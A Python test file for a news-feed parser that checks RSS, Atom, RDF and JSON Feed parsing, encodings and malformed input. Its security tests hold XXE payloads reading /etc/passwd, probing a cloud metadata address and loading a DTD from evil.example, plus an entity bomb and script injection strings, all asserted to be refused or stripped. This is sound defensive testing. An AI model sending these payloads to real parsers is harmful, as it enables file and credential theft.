import json
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.ingest.documents import DocumentRefused
from services.ingest.feeds import NotAFeed, ParsedFeed, parse_feed, plain

URL = "https://news.example/feeds/world.xml"


def _rss(items: str, head: str = "", declaration: str = '<?xml version="1.0"?>') -> str:
    return f'{declaration}<rss version="2.0"><channel><title>The Harbour Post</title>{head}{items}</channel></rss>'


def _parse(text: str, encoding: str = "utf-8", content_type: str | None = None) -> ParsedFeed:
    return parse_feed(text.encode(encoding), URL, content_type)


def test_rss_item() -> None:
    feed = _parse(
        _rss(
            "<item><title>Ferry &amp;amp; crane &lt;b&gt;collide&lt;/b&gt;</title><link>/2026/ferry</link>"
            '<guid isPermaLink="false">n-1</guid><author>desk@news.example (Ada Quist)</author>'
            "<pubDate>Mon, 23 Nov 2026 08:15:00 +0200</pubDate><description>&lt;p&gt;Two were hurt.&lt;/p&gt;</description>"
            "</item>",
            head="<language>en-GB</language><ttl>15</ttl>",
        )
    )
    (item,) = feed.entries
    assert (feed.kind, feed.title, feed.ttl, feed.malformed) == ("rss", "The Harbour Post", 900, None)
    assert item.url == "https://news.example/2026/ferry"
    assert item.guid == "n-1"
    assert item.title == "Ferry & crane collide"
    assert item.published == datetime(2026, 11, 23, 6, 15, tzinfo=UTC)
    assert item.language == "en-GB"
    assert item.summary == "Two were hurt."
    assert "Ada Quist" in item.authors[0]


@pytest.mark.parametrize(
    ("document", "kind"),
    [
        ('<rss version="0.91"><channel><title>t</title><item><title>a</title><link>/a</link></item></channel></rss>', "rss"),
        ('<rss version="0.92"><channel><item><link>/a</link></item></channel></rss>', "rss"),
        (
            '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
            '<rss version="0.91"><channel><item><link>/a</link></item></channel></rss>',
            "rss",
        ),
        (
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://my.netscape.com/rdf/simple/0.9/">'
            "<item><title>a</title><link>/a</link></item></rdf:RDF>",
            "rdf",
        ),
        (
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
            '<item rdf:about="/a"><title>a</title><link>/a</link></item></rdf:RDF>',
            "rdf",
        ),
        ('<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="/a"/></entry></feed>', "atom"),
        (
            '<feed xmlns="http://purl.org/atom/ns#" version="0.3"><entry><link rel="alternate" href="/a"/></entry></feed>',
            "atom",
        ),
        ('{"version": "https://jsonfeed.org/version/1", "title": "t", "items": [{"id": "1", "url": "/a"}]}', "json"),
        ('{"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": [{"id": 1, "external_url": "/a"}]}', "json"),
    ],
)
def test_kinds(document: str, kind: str) -> None:
    feed = _parse(document)
    assert feed.kind == kind
    assert [item.url for item in feed.entries] == ["https://news.example/a"]


def test_atom_entry() -> None:
    feed = _parse(
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="uk"><title>Т</title>'
        '<link rel="hub" href="https://hub.example/"/><link rel="next" href="?page=2"/><link rel="self" href="world.xml"/>'
        '<entry><id>tag:news.example,2026:1</id><title type="html">A &amp;lt; B</title>'
        '<link rel="enclosure" href="/a.mp3" type="audio/mpeg"/><link rel="alternate" type="application/pdf" href="/a.pdf"/>'
        '<link rel="alternate" type="text/html" href="../a"/><author><name>Ada Quist</name></author>'
        "<author><name>Bo Lind</name></author><published>2026-11-23T01:00:00-05:00</published>"
        "<updated>2026-11-23T07:30:00Z</updated></entry></feed>"
    )
    (item,) = feed.entries
    assert item.url == "https://news.example/a"
    assert item.title == "A < B"
    assert item.authors == ("Ada Quist", "Bo Lind")
    assert item.published == datetime(2026, 11, 23, 6, 0, tzinfo=UTC)
    assert item.updated == datetime(2026, 11, 23, 7, 30, tzinfo=UTC)
    assert item.language == "uk"
    assert (feed.links.hub, feed.links.next) == ("https://hub.example/", f"{URL}?page=2")
    assert feed.links.self == URL


def test_json_feed_item() -> None:
    feed = _parse(
        json.dumps(
            {
                "version": "https://jsonfeed.org/version/1.1",
                "title": "The Harbour Post",
                "language": "en",
                "next_url": "/feeds/2.json",
                "hubs": [{"type": "WebSub", "url": "https://hub.example/"}],
                "items": [
                    {
                        "id": "x",
                        "url": "/a",
                        "title": "Crane &amp; ferry",
                        "authors": [{"name": "Ada Quist"}, "wrong"],
                        "date_published": "2026-11-23T08:00:00.123+02:00",
                        "date_modified": "not a date",
                        "content_html": "<p>Two <b>hurt</b>.</p>",
                    },
                    {"id": "no link"},
                    "wrong",
                ],
            }
        )
    )
    (item,) = feed.entries
    assert item.published == datetime(2026, 11, 23, 6, 0, tzinfo=UTC)
    assert (item.title, item.authors, item.updated, item.language) == ("Crane & ferry", ("Ada Quist",), None, "en")
    assert item.summary == "Two hurt ."
    assert (feed.links.next, feed.links.hub, feed.skipped) == ("https://news.example/feeds/2.json", "https://hub.example/", 1)


WORDS = "Порт закрили через шторм, поранено двох моряків"
GREEK = "Το λιμάνι έκλεισε λόγω καταιγίδας και δύο ναύτες τραυματίστηκαν ελαφρά"


@pytest.mark.parametrize(
    ("encoding", "declared", "header"),
    [
        ("utf-8", None, None),
        ("utf-8", "windows-1251", None),
        ("utf-8", None, "text/xml; charset=iso-8859-1"),
        ("utf-8-sig", "utf-8", "application/xml"),
        ("utf-16", "utf-16", "application/xml"),
        ("utf-16-le", "utf-16", "application/xml; charset=utf-8"),
        ("windows-1251", "windows-1251", None),
        ("windows-1251", "windows-1251", "text/xml; charset=utf-8"),
        ("windows-1251", "utf-8", "text/xml; charset=windows-1251"),
        ("windows-1251", None, "application/rss+xml; charset=windows-1251"),
        ("windows-1251", None, "text/xml"),
        ("windows-1251", "iso-8859-1", "text/xml; charset=ISO-8859-1"),
        ("koi8-u", "koi8-u", None),
    ],
)
def test_the_bytes_decide_the_encoding(encoding: str, declared: str | None, header: str | None) -> None:
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else '<?xml version="1.0"?>'
    items = "".join(f"<item><title>{WORDS}</title><link>/{n}</link></item>" for n in range(4))
    feed = _parse(_rss(items, declaration=declaration), encoding, header)
    assert feed.entries[0].title == WORDS


def test_latin_text_declared_latin_stays_latin() -> None:
    title = "Fähre rammt Kran: “zwei Verletzte” in Århus, Élysée"
    items = "".join(f"<item><title>{title}</title><link>/{n}</link></item>" for n in range(20))
    feed = _parse(_rss(items, declaration='<?xml version="1.0" encoding="iso-8859-1"?>'), "cp1252")
    assert feed.entries[0].title == title


def test_greek_in_its_own_encoding() -> None:
    feed = _parse(_rss(f"<item><title>{GREEK}</title><link>/a</link></item>"), "iso-8859-7", "text/xml; charset=iso-8859-7")
    assert feed.entries[0].title == GREEK


@pytest.mark.parametrize(
    "broken",
    [
        "<item><title>A & B</title><link>/a</link></item>",
        "<item><title>A</title><link>/a</link>",
        "<item><title>A&nbsp;B</title><link>/a</link></item>",
        "<item><title>A\x0b\x00</title><link>/a</link></item>",
        "\n\n <item><title><b>A</title><link>/a</link></item>",
        "<item><dc:title>A</dc:title><link>/a</link></item>",
    ],
)
def test_malformed_feeds_still_give_their_items(broken: str) -> None:
    feed = _parse("\n" + _rss(broken))
    assert [item.url for item in feed.entries] == ["https://news.example/a"]


def test_what_is_malformed_is_said() -> None:
    assert "not well-formed" in (_parse(_rss("<item><title>A & B</title><link>/a</link></item>")).malformed or "")


def test_dateless_linkless_and_guid_only_items() -> None:
    feed = _parse(
        _rss(
            "<item><title>dateless</title><link>/a</link><pubDate>yesterday-ish</pubDate></item>"
            "<item><title>linkless</title></item>"
            "<item><guid>https://news.example/b</guid></item>"
            "<item><link>javascript:alert(1)</link></item><item><link>mailto:x@y</link></item>"
            "<item><link>\n  /c\n </link></item>"
        )
    )
    assert [item.url for item in feed.entries] == [f"https://news.example/{letter}" for letter in "abc"]
    assert feed.entries[0].published is None
    assert feed.skipped == 3


def test_syndication_period_is_a_ttl() -> None:
    feed = _parse(
        '<rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"><channel><title>t</title>'
        "<sy:updatePeriod> hourly </sy:updatePeriod><sy:updateFrequency>2</sy:updateFrequency></channel></rss>"
    )
    assert feed.ttl == 1800
    assert feed.entries == ()


ITEM = "<item><title>&x;</title><link>/a</link></item>"
BOMB = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha" * 10}">' for n in range(10))


@pytest.mark.threat("xxe-feed")
@pytest.mark.parametrize(
    ("dtd", "what"),
    [
        (f"<!DOCTYPE rss [{BOMB}]>", "entity bomb"),
        ('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "XXE"),
        ('<!DOCTYPE rss [<!ENTITY x PUBLIC "p" "http://169.254.169.254/">]>', "XXE"),
        ('<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>', "XXE"),
        ("<!-- c --><?pi?>\n<!DOCTYPE rss [<!ENTITY x '&amp;x;'>]>", "entity bomb"),
        (f'<!DOCTYPE rss [<!ENTITY x "{"a" * 300}">]>', "entity bomb"),
        ('<!DOCTYPE rss [<!ENTITY a ">"><!ENTITY x SYSTEM "file:///etc/passwd">]>', "XXE"),
        (f"<!DOCTYPE rss [{' ' * 70_000}", "does not end"),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_dangerous_xml_is_refused(dtd: str, what: str, encoding: str) -> None:
    with pytest.raises(DocumentRefused, match=what):
        _parse(_rss(ITEM, declaration=dtd), encoding)


def test_harmless_entities_pass() -> None:
    w3c = (
        '<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent">'
    )
    feed = _parse(_rss(ITEM, declaration=f'<!DOCTYPE rss [<!ENTITY x "&#8211;">{w3c}]>'))
    assert feed.entries[0].url == "https://news.example/a"
    tutorial = "<item><title>t</title><link>/a</link><description><![CDATA[<!ENTITY x SYSTEM 'y'>]]></description></item>"
    assert _parse(_rss(tutorial)).entries


@pytest.mark.parametrize(
    "body", [b"", b"   ", b"<!doctype html><html><head><title>Not found</title></head><body>x</body></html>", b"plain words",
             b'{"json": "but no feed"}', b"[" * 100_000, b'{"a":' * 50_000, b"\x00\x01\x02"]
)  # fmt: skip
def test_other_documents_are_no_feeds(body: bytes) -> None:
    with pytest.raises(NotAFeed):
        parse_feed(body, URL)


def _read(body: bytes) -> None:
    try:
        feed = parse_feed(body, URL)
    except DocumentRefused:
        return
    for item in feed.entries:
        assert item.url.startswith(("http://", "https://"))
        assert item.published is None or item.published.tzinfo is UTC


@pytest.mark.threat("parser-poison")
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=400))
def test_arbitrary_bytes_are_read_or_refused(body: bytes) -> None:
    _read(body)
    _read(b'<?xml version="1.0"?><rss version="2.0"><channel><item><link>' + body)


SHREDS = ["<item>", "</item>", "<link>/a", "</link>", "<![CDATA[", "]]>", "&", "&x;", "<!--", "<pubDate>", "x", "\x00", "<a:b>"]


@pytest.mark.threat("parser-poison")
@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(SHREDS)))
def test_shredded_feeds_are_read_or_refused(parts: list[str]) -> None:
    _read(_rss("".join(parts)).encode())


KEYS = st.sampled_from(["items", "url", "id", "authors", "name", "title", "date_published", "hubs"])
LEAF = st.none() | st.booleans() | st.integers() | st.text(max_size=8)
VALUES = st.recursive(LEAF, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(KEYS, inner, max_size=4))


@settings(max_examples=100, deadline=None)
@given(VALUES)
def test_json_feeds_of_wrong_types_are_read_or_refused(value: object) -> None:
    items = [value, {"url": value, "id": value, "authors": value, "date_published": value}]
    _read(json.dumps({"version": "https://jsonfeed.org/version/1", "title": value, "items": items}).encode())


@pytest.mark.threat("script-stored")
@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("safe<script type='x'>run('<b>')</script> words", "safe words"),
        ("safe &lt;script&gt;run()&lt;/script&gt; words", "safe words"),
        ("<style>p {}</style><p>A &amp; B</p>", "A & B"),
        ("a < b and <i>c</i>", "a < b and c"),
    ],
)
def test_plain_text_has_no_code(markup: str, text: str) -> None:
    assert plain(markup) == text
